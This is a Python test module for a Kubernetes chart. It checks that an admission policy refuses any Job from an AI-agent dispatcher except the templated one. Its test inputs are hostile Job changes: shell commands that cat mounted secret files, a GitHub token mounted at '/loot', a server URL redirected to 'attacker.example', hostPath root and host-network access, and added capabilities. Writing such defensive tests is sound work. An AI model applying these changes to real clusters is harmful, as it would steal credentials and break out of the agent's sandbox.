"""The dispatcher may create Jobs, and whoever creates a Job can run a pod that mounts any Secret or runs as
any ServiceAccount: the chart's ValidatingAdmissionPolicy admits from the dispatcher's ServiceAccount only
the per-ticket Job that agent/dispatch/jobs.py build_job makes from the job-template ConfigMap. Checked in
the real API server (its admission chain, with the dispatcher's own token): the built Job is admitted for
every values file, and each hostile change to it is refused with the policy's message."""

from __future__ import annotations

import asyncio
import contextlib
import copy
import itertools
from collections.abc import AsyncGenerator, Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from kubernetes.aio import client

from agent.dispatch import Ticket
from agent.dispatch.jobs import build_job
from tests.charts.render import CI_VALUES, job_template, render
from tests.kube.cluster import Cluster
from tests.kube.kubeapi import NS, RELEASE, api_client, call, install, service_account_token

pytestmark = [pytest.mark.slow, pytest.mark.timeout(900)]

TRACE = "0123456789abcdef0123456789abcdef"
PREFIX = "goresolve: a Job of the dispatcher"
_numbers = itertools.count()


def built(manifests: list[dict[str, Any]]) -> dict[str, Any]:
    """One ticket's Job, exactly as the dispatcher builds it (a fresh ticket, so a fresh name, each time)."""
    ticket = Ticket(f"acme/svc#{9000 + next(_numbers)}", "acme/svc", TRACE, "github")
    return build_job(job_template(manifests), ticket, active_deadline_s=2100, ttl_after_finished_s=600)


CREATED: list[tuple[str, str]] = []


async def create(api: client.ApiClient, namespace: str, job: dict[str, Any]) -> tuple[int, str]:
    answer = await call(
        api, "POST", f"/apis/batch/v1/namespaces/{namespace}/jobs", job, [("fieldValidation", "Strict")]
    )
    if answer.status == 201:
        CREATED.append((namespace, job["metadata"]["name"]))
    return answer.status, str(answer.json.get("message", ""))


@pytest.fixture(autouse=True)
async def _no_job_left_behind(admin: client.ApiClient) -> AsyncGenerator[None]:
    """The Jobs admitted here would count as running tickets for the dispatcher tests sharing the namespace."""
    yield
    while CREATED:
        namespace, name = CREATED.pop()
        gone = await call(admin, "DELETE", f"/apis/batch/v1/namespaces/{namespace}/jobs/{name}")
        assert gone.status in (200, 202), gone.json


def pod(job: dict[str, Any]) -> dict[str, Any]:
    return job["spec"]["template"]["spec"]


def container(job: dict[str, Any], name: str) -> dict[str, Any]:
    spec = pod(job)
    return next(c for c in [*spec.get("initContainers", []), *spec["containers"]] if c["name"] == name)


def other_account(job: dict[str, Any]) -> None:
    pod(job)["serviceAccountName"] = f"{RELEASE}-goresolve-dispatcher"


async def enforced(api: client.ApiClient, namespace: str, manifests: list[dict[str, Any]]) -> None:
    """Wait until the API server enforces the policy (it loads new policies asynchronously)."""
    for _ in range(300):
        job = built(manifests)
        other_account(job)
        status, message = await create(api, namespace, job)
        if status == 403 and PREFIX in message:
            return
        assert status == 201, message
        await asyncio.sleep(0.1)
    raise AssertionError("the dispatcher's admission policy was never enforced")


@pytest.fixture
async def dispatcher_api(cluster: Cluster, installed: dict[str, Any]) -> AsyncGenerator[client.ApiClient]:
    async with api_client(cluster, installed["dispatcher_token"]) as api:
        yield api


async def test_the_job_the_dispatcher_builds_is_admitted_and_another_account_is_refused(
    dispatcher_api: client.ApiClient, admin: client.ApiClient, manifests: list[dict[str, Any]]
) -> None:
    await enforced(dispatcher_api, NS, manifests)
    assert await create(dispatcher_api, NS, built(manifests)) == (201, "")
    job = built(manifests)
    other_account(job)
    status, message = await create(dispatcher_api, NS, job)
    assert status == 403
    assert (
        f"{PREFIX} runs as ServiceAccount {RELEASE}-goresolve-agent with automountServiceAccountToken false" in message
    )
    # Only the dispatcher's own requests are concerned: an operator may create any Job.
    assert (await create(admin, NS, job))[0] == 201


def automount(job: dict[str, Any]) -> None:
    pod(job)["automountServiceAccountToken"] = True


def other_image(job: dict[str, Any]) -> None:
    container(job, "agent")["image"] = "docker.io/library/busybox:1.37"


def github_token_in_the_agent(job: dict[str, Any]) -> None:
    """The github-pr sidecar's own credential volume, mounted into the agent container."""
    container(job, "agent")["volumeMounts"].append(
        {"name": "github-pr-secrets", "mountPath": "/loot", "readOnly": True}
    )


def github_secret_as_a_new_volume(job: dict[str, Any]) -> None:
    # A volume of its own holding the whole github-pr Secret, in place of the agent's scratch volume.
    [scratch] = [v for v in pod(job)["volumes"] if v["name"] == "agent-tmp"]
    scratch.pop("emptyDir")
    scratch["secret"] = {"secretName": f"{RELEASE}-goresolve-github-pr"}


def github_token_as_agent_env(job: dict[str, Any]) -> None:
    agent = container(job, "agent")
    [model] = [e for e in agent["env"] if e["name"] == "GORESOLVE_AGENT_API_KEY"]
    model["valueFrom"]["secretKeyRef"] = {"name": f"{RELEASE}-goresolve-github-pr", "key": "token"}


def host_path(job: dict[str, Any]) -> None:
    [scratch] = [v for v in pod(job)["volumes"] if v["name"] == "agent-tmp"]
    scratch.pop("emptyDir")
    scratch["hostPath"] = {"path": "/"}


def host_network(job: dict[str, Any]) -> None:
    pod(job)["hostNetwork"] = True


def shared_processes(job: dict[str, Any]) -> None:
    pod(job)["shareProcessNamespace"] = True


def capabilities(job: dict[str, Any]) -> None:
    """(A privileged container this API server refuses itself: it runs without --allow-privileged.)"""
    context = container(job, "go-test-runner")["securityContext"]
    context["capabilities"]["add"] = ["SYS_ADMIN"]
    context["allowPrivilegeEscalation"] = True


def other_command(job: dict[str, Any]) -> None:
    container(job, "agent")["args"] = ["sh", "-c", "cat /var/run/secrets/goresolve/tokens/*"]


def probe_in_github_pr(job: dict[str, Any]) -> None:
    """A probe is a command the kubelet runs in the container: here, the one holding the GitHub token."""
    container(job, "github-pr")["livenessProbe"]["exec"]["command"] = ["sh", "-c", "cat /var/run/secrets/goresolve/*"]


def other_server_setting(job: dict[str, Any]) -> None:
    """github-pr sending its token to another host."""
    env = container(job, "github-pr")["env"]
    [base] = [e for e in env if e["name"] == "GORESOLVE_GITHUB_PR_BASE_URL"]
    base["value"] = "https://attacker.example"


def parallel(job: dict[str, Any]) -> None:
    job["spec"]["parallelism"] = 50
    job["spec"]["completions"] = 50


def unlabelled(job: dict[str, Any]) -> None:
    """No NetworkPolicy of the release selects a pod without its labels: it would run with no network rule."""
    for key in ("app.kubernetes.io/component", "app.kubernetes.io/instance", "app.kubernetes.io/name"):
        job["spec"]["template"]["metadata"]["labels"].pop(key)


def dispatcher_label(job: dict[str, Any]) -> None:
    """The dispatcher's NetworkPolicy lets its pods reach the API server."""
    job["spec"]["template"]["metadata"]["labels"]["app.kubernetes.io/component"] = "dispatcher"


def another_apps_label(job: dict[str, Any]) -> None:
    """A label another application's NetworkPolicy admits (its database's clients, say)."""
    job["spec"]["template"]["metadata"]["labels"]["db-client"] = "true"


def runtime_class(job: dict[str, Any]) -> None:
    pod(job)["runtimeClassName"] = "unconfined"


def tolerations(job: dict[str, Any]) -> None:
    """Onto the control plane's nodes."""
    pod(job)["tolerations"] = [{"key": "node-role.kubernetes.io/control-plane", "operator": "Exists"}]


def writable_root(job: dict[str, Any]) -> None:
    container(job, "go-test-runner")["securityContext"]["readOnlyRootFilesystem"] = False


def no_limits(job: dict[str, Any]) -> None:
    container(job, "go-test-runner")["resources"].pop("limits")


def more_memory(job: dict[str, Any]) -> None:
    container(job, "agent")["resources"]["limits"]["memory"] = "64Gi"


def memory_scratch(job: dict[str, Any]) -> None:
    """64 GiB of scratch in the node's memory, where the template has a disk-backed 8 GiB volume."""
    [work] = [v for v in pod(job)["volumes"] if v["name"] == "go-test-runner-work"]
    work["emptyDir"] = {"medium": "Memory", "sizeLimit": "64Gi"}


def bigger_scratch(job: dict[str, Any]) -> None:
    [work] = [v for v in pod(job)["volumes"] if v["name"] == "go-test-runner-work"]
    work["emptyDir"]["sizeLimit"] = "500Gi"


HOSTILE: dict[str, tuple[Callable[[dict[str, Any]], None], str]] = {
    # Before, each of these was admitted (found by an audit of the chart with the dispatcher's own token).
    "a pod without the release's labels": (unlabelled, "labels its pod as the job template does"),
    "the dispatcher's component label": (dispatcher_label, "labels its pod as the job template does"),
    "another application's label": (another_apps_label, "with the ticket's labels only"),
    "a runtime class": (runtime_class, "is scheduled as the job template says"),
    "tolerations of its own": (tolerations, "is scheduled as the job template says"),
    "a writable root file system": (writable_root, "with a writable root file system"),
    "no resource limits": (no_limits, "within the job template's CPU and memory limits"),
    "a higher memory limit": (more_memory, "within the job template's CPU and memory limits"),
    "a memory-backed scratch volume": (memory_scratch, "has the job template's volumes only"),
    "a bigger scratch volume": (bigger_scratch, "scratch volume sizes"),
    "another ServiceAccount": (other_account, "runs as ServiceAccount"),
    "an API token": (automount, "automountServiceAccountToken false"),
    "another image": (other_image, "exactly the job template's containers, each with its image"),
    "the github-pr credentials mounted into the agent": (github_token_in_the_agent, "volumes only"),
    "the github-pr Secret as a volume": (github_secret_as_a_new_volume, "has the job template's volumes only"),
    "the github-pr token in the agent's environment": (github_token_as_agent_env, "settings and Secret keys"),
    "a hostPath volume": (host_path, "has the job template's volumes only"),
    "the host's network": (host_network, "shares no host namespace"),
    "one process namespace for all containers": (shared_processes, "no process namespace"),
    "a container with added capabilities": (capabilities, "added capabilities or a host port"),
    "another command": (other_command, "runs the job template's commands"),
    "a probe running a command": (probe_in_github_pr, "no lifecycle hook, no other probe"),
    "another setting of a server": (other_server_setting, "settings and Secret keys"),
    "many pods": (parallel, "runs one pod, once"),
}


@pytest.mark.parametrize("change", HOSTILE, ids=lambda k: k.replace(" ", "-"))
async def test_a_hostile_job_from_the_dispatcher_is_refused_with_the_policys_message(
    change: str, dispatcher_api: client.ApiClient, manifests: list[dict[str, Any]]
) -> None:
    await enforced(dispatcher_api, NS, manifests)
    hostile, complaint = HOSTILE[change]
    job = copy.deepcopy(built(manifests))
    hostile(job)
    status, message = await create(dispatcher_api, NS, job)
    assert status == 403, message
    assert PREFIX in message and complaint in message, message


@contextlib.asynccontextmanager
async def as_dispatcher(
    admin: client.ApiClient, cluster: Cluster, namespace: str, manifests: list[dict[str, Any]]
) -> AsyncGenerator[client.ApiClient]:
    """Install `manifests` in `namespace` and yield a client with the dispatcher's own token, once the policy is
    enforced and the Job the dispatcher builds has been admitted."""
    results = await install(admin, namespace, manifests)
    assert {k: s for k, (s, _w, _j) in results.items() if s != 201} == {}
    token = await service_account_token(admin, namespace, f"{RELEASE}-goresolve-dispatcher")
    async with api_client(cluster, token) as dispatcher:
        await enforced(dispatcher, namespace, manifests)
        assert await create(dispatcher, namespace, built(manifests)) == (201, "")
        yield dispatcher


WITH_DISPATCHER = [p for p in CI_VALUES if (yaml.safe_load(p.read_text()).get("dispatcher") or {}).get("enabled", True)]


@pytest.mark.parametrize("values", WITH_DISPATCHER, ids=lambda p: p.stem)
async def test_in_every_ci_configuration_the_built_job_is_admitted_and_another_account_is_not(
    values: Path, admin: client.ApiClient, cluster: Cluster
) -> None:
    namespace = f"adm-{values.stem}"
    manifests = render(values=values, namespace=namespace, release=RELEASE)
    async with as_dispatcher(admin, cluster, namespace, manifests):
        pass  # admitted: the policy enforced, the built Job created


async def test_with_shared_keys_a_job_giving_go_test_runner_another_servers_key_is_refused(
    admin: client.ApiClient, cluster: Cluster
) -> None:
    """The token-key Secret holds all four keys and each server's volume projects its own only: test code in
    go-test-runner's container must not get github-pr's key by a Job that projects that key instead."""
    namespace = "adm-shared-key"
    manifests = render(
        namespace=namespace, release=RELEASE, sets=("auth.mode=sharedKey", f"auth.sharedKey.value={'k' * 40}")
    )
    async with as_dispatcher(admin, cluster, namespace, manifests) as dispatcher:
        job = built(manifests)
        [own] = [v for v in pod(job)["volumes"] if v["name"] == "go-test-runner-secrets"]
        [source] = own["projected"]["sources"]
        assert source["secret"]["items"] == [{"key": "go-test-runner", "path": "GORESOLVE_GO_TEST_RUNNER_TOKEN_KEY"}]
        source["secret"]["items"] = [{"key": "github-pr", "path": "GORESOLVE_GO_TEST_RUNNER_TOKEN_KEY"}]
        status, message = await create(dispatcher, namespace, job)
        assert status == 403 and f"{PREFIX} has the job template's volumes only" in message, message
